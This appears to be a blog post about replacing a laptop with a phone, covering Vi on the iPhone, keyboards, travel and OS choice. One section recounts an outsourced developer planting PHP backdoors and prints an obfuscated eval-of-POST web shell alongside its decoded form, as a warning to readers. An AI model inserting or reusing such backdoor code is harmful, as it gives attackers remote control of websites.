Period Shortcut on iPhone

I’ve never been a big fan of cloud based applications or cloud based programming as a general rule, because I lose control over what I’m working on, it’s more difficult to use those services when I’m traveling with spotty connectivity, etc. But for the sake of moving down the path of a phone desktop replacement, it’simportant to get at least vaguely comfortable with the idea that if you need to do some programming work, you’re probably not going to want to be doing that on your phone.

I’ll talk about doing dev-work on the phone itself in a bit, butfor now, let’s talk about cloud solutions. Over the last week I’ve slowly gotten myself used to connecting through iSSH to remote Amazon Elastic Cloud Computing (EC2) servers to test various features, develop simple applications and general ease of use. I’ll dissect iSSH at a later date as well, but I ran into other interesting issues almost immediately.

Firstly, as I said in a previous post, I use Vi (or Vim) as an online editor fairly regularly, because it makes my life easier. However, there’s a usability feature of the iPhone that gets in the way. If you hit double space on the iPhone it creates a period. If you in Vi a period will do one of two things. It will either write a physical period if you are in editing mode, or it will runthe previous command. Yes, whatever thing you just did, it will do it again. So if you were just editing something and you added a word, that word willget added again. Extremely frustrating.

If you’ve seen the Silicon Valley episode for spaces verses tabs, you’re probably chuckling to yourself right now, but the reason I use spaces is because terminals are often fixed-width and line wrapping is reduced when you use spaces. Anyway, without getting into a religious war, on the iPhone it can be overridden by going to Settings – Keyboard – “.” Shortcut and disabling that shortcut checkbox.

Disable “.” Shortcut

Ideally something like this would be optional and easy to enable or disable on an app by app basis when a user identifies a problem with their shortcuts. But for now, this workaround does work well, if youare okay disabling this otherwise helpful shortcut for the rest of the applications that need it.

Omoton vs Apple Keyboards

In a previous blog post I mentioned trying out the Omoton Bluetooth keyboard. After a few weeks of trying to get used to the Omoton keyboard I’ve decided it’s not a good fit for this type of task. The important thing that’s missing is an escape key.

A single key may not seem like that big of a deal but it really truly is for programmers. And now I’m going to get into a religious war, beware. There is a lot of people who really believe that in the Emacs vs Vi world, that Emacs is better. And it may very well be better. But on many systems there is no Emacs installed. In fact there may not even be Vi installed, but rather Vi’s grandfather, Ed, which has many of the same keyboard commands. So if you aren’t familiar with Vi you often are far less useful on things like embedded systems that require a minimal install. Anyway, it’s not a religious issue for me, I just have gotten used to being able to do whatever I need to using Vi or Vim.

Butfor Vi to work you need an escape key to jump out of editing mode. The Omoton keyboard simply doesn’t have it. So I purchased the certified Apple Bluetooth keyboard, typically designed for iPads and was immediately happy with the ability to jump in and out of editing mode when on a server over the iSSH application.

Was it worth the extra expense? I think it was and will continue to be a useful tool for when I need to connect to servers. For most people who don’t code, I don’t think the added expense is necessary since they are effectively the same in other respects.

Going Lighweight

Going lightweight has always been a passion of mine. How light can I be? It’s not just a comfort thing, although comfort is nice. But when you have fewer physical things, there are fewer things to worry about. Or said another way, when you have everything you need and your expectations of what said needs are is set low enough, you are not inconvenienced by anything.First, let’s talk about comfort. My main laptop is very light (I say main laptop because I have a half a dozen of them – most out of commission). It’s a Windows Surface Book and it’s amazing. Lots of great features, plenty fast, great battery life, and can act as a tablet or a full computing environment. That’s great, but it’s also heavy, or at least compared to a smart phone. It’s heavy enough that if I were able to shrink it down to handheld weight I wouldn’t want it as my phone. The aspect that I like about the phone is it’s convenient because I have it, and I have it because it’s small, light and does a lot of things relatively well.

Comfort means two things, comfortto carry said device on your person and comfort to carry it as you travel. I find that the modern cell phone is light enough I don’t actually notice when I’m carrying it. And it’s also light enough that it’s a shoe-in for long travel where poundage matters to the total ability to travel without being inconvenienced by the addition weight.

Second is the burden of traveling with the device. There is a large mental consequence to worrying about your possessions. Since carrying a laptop with you everywhere is unlikely, if you care about your equipment you need to trust nothing will happen when you leave your bag under the table at the restaurant while you’re in the bathroom, worry about it but do nothing, or be the nut job who carries their laptop to the bathroom.

I personally think enough of my brainpower is spent worrying about the physical whereabouts of my computer equipment that I’m less effective at socializing and moving around from place to place. If I can avoid worrying as much because my equipment is with me at all times, I can dedicate the mental resources to the business I’m there to attend to. It’s a huge burden lifted.

I have traveled Internationally with just a burner phone and no laptops for years. I can say it feels a bit naked but also extremely liberating to be traveling with everything on your person andknowing if any of it is lost there’s very little financial damage done.

Phone VS Tablet

Why a phone? Why not a tablet, like a Windows Surface or an iPad? It’s one of the first questions I get asked when I start explaining this experiment. Or someone will scoff because if it can be done with an iPad or tablet, surely a phone is the natural extension and plenty of people have ditched their laptops for a tablet.

There’s two very major differences (and a whole bunch of others that I won’t get into). First, the size. That may seem obvious, but with a smaller form factor you get one major pro and a bunch of cons. The phone is far far more portable than an iPad. Are you really going to carry an iPad to the Opera, or dancing? If you’re going out drinking are you bringing your iPad with you? Sure, maybe if you’re a huge nerd who doesn’t care about carrying a bag around with you everywhere. But normal people under a normal circumstance will be reluctant to have a tablet with them if it doesn’t naturally fit with their attire.

It reminds me of the old adage that “the best camera is the one you have on you.” That speaks to whyphones have become the dominant camera platform on the planet, far exceeding the big boys like Nikon, Cannon, etc. But it also speaks to why your cell phone is the right choice if ubiquity of access is important. If you have a cell phone on you at all times, you’re far more likely to use it and all of it’s potential. That can be good or bad depending on your lifestyle, but for sake of argument that it’s always a good thing to have your work environment when you need it.

The second thing is that the operating system and the way apps work are different. For instance context switching between apps works differently on the different operating systems – a topic I’ll spend a lot more time on later. But it is slightly more difficult to use the phone if you need to switch apps quickly in your work environment.

It may seem like minutia, but while tablets may be reminiscent of the phone, they are different enough that I think discussing them as a desktop or laptop alternative is a much simpler task compared to the phone. But hopefully we can change all that and make the phone the go-to for the people who want true mobility.

Upwork Outsourcing

As part of this experiment I decided to outsource the updating of this website with better graphics and layout. This was clearly done by someone on their cell phone and that’s not cutting it!  So I turned to Upwork (used to be Odesk for those of you who are familiar with the old name).Setting up an account was a bit painful since their app doesn’t currently support the entire suite of tools on their website. Switching between the mobile browser and the app was a bit annoying, but it did work. After finally getting authorized, setting up payment, and getting a developer I was off to the races.

Things were going okay at first, for the first week or so. Regular communication and clear deadlines are important. But this particular developer had some tricks up their sleeves. Firstly, the account they used was a front for a larger dev team. That dev team wasn’t willing to use the built-in Upwork feature to track their time. That was my first clue that something was about to go awry.

The second is that it took 40 hours to package up the code for delivery – something that should have been extremely simple to do if the code was indeed being developed in any professional way.  But the last issue was the kicker.

When I got the code it was in a format the the iPhone can’t easily handle – zip files. So I broke my rule and downloaded it into a computer and before I could even unzip it, Microsoft’s Security Essentials found something that looked suspicious. So I dug into the code and found 6 PHP back doors that would allow this developer and their team to get access to this site.

Here’s an example of what the code looked like:

<?php $viu0="sutpe_or"; $iwvk7=$viu0[0].$viu0[2].$viu0[7].$viu0[2].$viu0[6].$viu0[1].$viu0[3].$viu0[3].$viu0[4].$viu0[7]; $uvwh73=$iwvk7 ($viu0[5].$viu0[3].$viu0[6].$viu0[0].$viu0[2]);if(isset(${$uvwh73}['q490ded'])){eval( ${$uvwh73}['q490ded']);} ?>

And after it’s decoded, this is what it looks like:

<?php if(isset(${_POST}['q490ded'])){eval(${_POST}['q490ded']);} ?>

Basically what this says is that any time their team went to my website and did a POST request to my site with the above parameter they would have been able to run any command they wanted to as if they had the same level of access that Ihad. That’s a bad thing if you’ve never heard of such a thing.

This points to two major failings of using the cell phone – uncompressing, navigating and finding issues within files is always going to be a bit more complex, except on things like unlocked Android environments. Secondly, evenattempting to use a cell phone for this type of task became overwhelmingly painful even in such a simple task as receiving content and uploading it to the site.

I’ve contested the work the developer did, but as a smart phone executive, this is something to be wary of. I have very little concerns with Upwork as a company, but the developers you happen to be saddled with are a mixed bag and you need to be extremely cautious of their eventual work product.

Update: less than one day later the funds have been returned! Thanks to Upwork, Joe, and Dennis for helping in this matter!

Upwork Response

Windows Continuum

Before going too far down the path of discussing using your phone as a work computer, it’s worth discussing Windows Continuum. If you haven’t seen it, it’s worth a watch. Microsoft is keenly aware that people are going to start wanting to use their phone as a desktop environment. It’s simply a matter of time before they become far more integrated – as drive density increases, CPUs becomeless battery hogs and hardware becomes better, people like me will start popping up more and more without even necessarily being aware of the shift they are making.

The video makes some very good points. Firstly, Windows isn’t quite the full desktop environment. The ARM architecture is both a huge advantage for the phone and a big disadvantage for the market place. When I have spoken with Windows evangalists about this and other issues related to increased resolution and the effects on legacy applications their tough love approach is, “Those legacy apps will have to upgrade.”

That’s all well and good, but it does make working on a phone a significantly harder and slower experience. I suppose one could be upset with that answer, but I think Microsoft is basically correct – yes, it breaks stuff, and yes, some legacy apps are no longer supported, but progress can’t be thwarted by one legacy app, or you end up with companies still running IE6.0 internally due to ActiveX controls *cough*.

Continuum has the advantage of having the easy shortcuts like alt-tab and a mouse that make usability far superior than say, an iPhone. However, it’s missing a lot of the core features that people know and love about Windows (for those who know and love Windows that is). Limited access to the file system is a bit of a miss, and lack of support for non-metro apps will haunt it for awhile until application developers get on the bandwagon.

I actually love the idea that Windows Continuum stands for, and I really hope they continue developing down this path. If nothing else it shows that Microsoft is actually leading the pack in the desktop/phone crossover space. Only time will tell who wins, but they’ve got a healthy lead in usabability.

Which OS and Why?

The first comments I got when I started this blog was, “Why the iPhone” or “Why not Android?”  The short answer is that I’m not married to any phone, and I intend to try many out in the process of writing this blog. But not everyone has the means or interest in trying out lots of devices. So they still need the question answered, “Which Phone should I choose?”

To answer that question, I need to give you a bit of background on how I view the ecosystem.  I don’t think about phones in a vacuum, I think about them holistically with their big daddy desktop/laptop operating systems.  So let’s look at the other options first:

Just a few of the Phones I’ve Owned Going Into This Project

  • Windows 7 and 10 are both really nice operating systems to use.  Say what you will, but Windows has done a really nice job with those operating systems if you need to be productive.  We can all joke about how bad Windows 8 was, but why exactly was it bad?  In my opinion it’s because Windows was fighting to make Metro a part of the desktop environment andit was their first very bad attempt to make that happen.  Why does Metro matter so much?  It matters because if they get it right, there will be a seemless switch between mobile and desktop.  If I had a Windows Operating system on my phone that was powerful enough to act as a desktop, which they are for most people, it should be a seemless switch to pick up my phone and take my tools, my data and my environment with me.  A phone that can act as a desktop is the holy grail and Microsoft gets this design ethos better than anyone.  When Windows 10 came out, you saw them shrink the Metro interface into the start menu and behold, it looks a lot like the phone viewport now.  Windows 10 gets it right.  It’s an open (not as in open source, but open as it I can install and run virtually anything from anywhere) OS.
  • Windows Mobile – the little phone OS that could.  I know a lot of people who swear by it.  I actually really enjoyed my Windows phone when I first started using it.  It’s nearly identical to the Metro interface of Windows 10, which is to say, it’s kinda ugly but very powerful.  As a tool for doing work, it’s a solid choice.  Apps, however, are lagging way behind the iPhone and Android market and Metro is actually different enough that many things don’t work the same.


